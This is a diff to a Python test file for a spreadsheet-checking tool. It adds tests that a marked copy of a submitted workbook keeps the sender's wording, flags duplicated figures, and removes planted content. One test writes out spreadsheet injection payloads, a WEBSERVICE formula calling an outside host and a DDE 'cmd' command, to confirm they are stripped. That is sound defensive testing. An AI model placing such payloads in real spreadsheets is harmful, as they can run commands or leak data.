@@ -15,6 +15,7 @@ from opdat_analytics import cli
 from opdat_analytics.answers.check import check
 from opdat_analytics.answers.decide import apply_decisions, decisions_workbook
 from opdat_analytics.answers.forms import DATE, KINDS, OFFICE
+from opdat_analytics.answers.marked import marked_copy
 from opdat_analytics.answers.template import plan, template
 from opdat_analytics.answers.template_sheets import example_lines
 from opdat_analytics.model import Home
@@ -191,3 +192,49 @@ def test_a_ruling_on_a_cell_that_changed_is_refused_and_nothing_is_written(tmp_p
     done = apply_decisions(decisions, home)
     assert done.refused[0].startswith("D2: courts/returns_2023.csv › returns_2023!C2 said “abc” and now says “abd”")
     assert (home.raw / "courts" / "source.toml").read_bytes() == before
+
+
+def test_the_copy_says_what_was_taken_in_the_senders_words(tmp_path: Path) -> None:
+    home, path = project(tmp_path, filled("outcomes", "es"))
+
+    front = openpyxl.load_workbook(io.BytesIO(marked_copy(check(path, home)))).worksheets[0]
+
+    said = {str(cell.value) for row in front.iter_rows() for cell in row if cell.value is not None}
+    assert "Condenas" in said
+    assert any("Panamá" in text for text in said)
+    assert "convictions" not in said
+
+
+def test_a_figure_printed_twice_is_marked_at_both_its_cells(tmp_path: Path) -> None:
+    home, path = project(tmp_path, filled("outcomes", "en", A6="Guatemala", B6="2023", C6="Convictions", D6="99"))
+    book = openpyxl.load_workbook(path)
+    for column in "EFGHIJKL":
+        book["Outcomes"][f"{column}6"] = book["Outcomes"][f"{column}5"].value
+    book["Outcomes"]["B6"] = book["Outcomes"]["B5"].value
+    book.save(path)
+
+    marked = openpyxl.load_workbook(io.BytesIO(marked_copy(check(path, home))))["Outcomes"]
+
+    assert {cell.coordinate for row in marked.iter_rows() for cell in row if cell.comment} == {"D5", "D6"}
+
+
+def test_the_copy_fetches_nothing_names_nobody_and_has_the_same_bytes_each_time(tmp_path: Path) -> None:
+    book = filled("outcomes", "en")
+    data = book["Outcomes"]
+    data["N5"] = '=WEBSERVICE("http://example.org/"&A5)'
+    data["N6"] = "=cmd|' /C calc'!A0"
+    data["N7"] = "=SUM(D5:D6)"
+    data["O5"] = "the list"
+    data["O5"].hyperlink = "file:///C:/Users/someone/list.xlsx"
+    book.properties.creator, book.properties.lastModifiedBy = "A. Sender", "A. Sender"
+    home, path = project(tmp_path, book)
+
+    copy = marked_copy(check(path, home))
+
+    assert marked_copy(check(path, home)) == copy
+    with ZipFile(io.BytesIO(copy)) as archive:
+        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
+    everything = "\n".join(parts.values())
+    for planted in ("WEBSERVICE", "cmd|", "someone", "A. Sender"):
+        assert planted not in everything
+    assert "SUM(D5:D6)" in everything
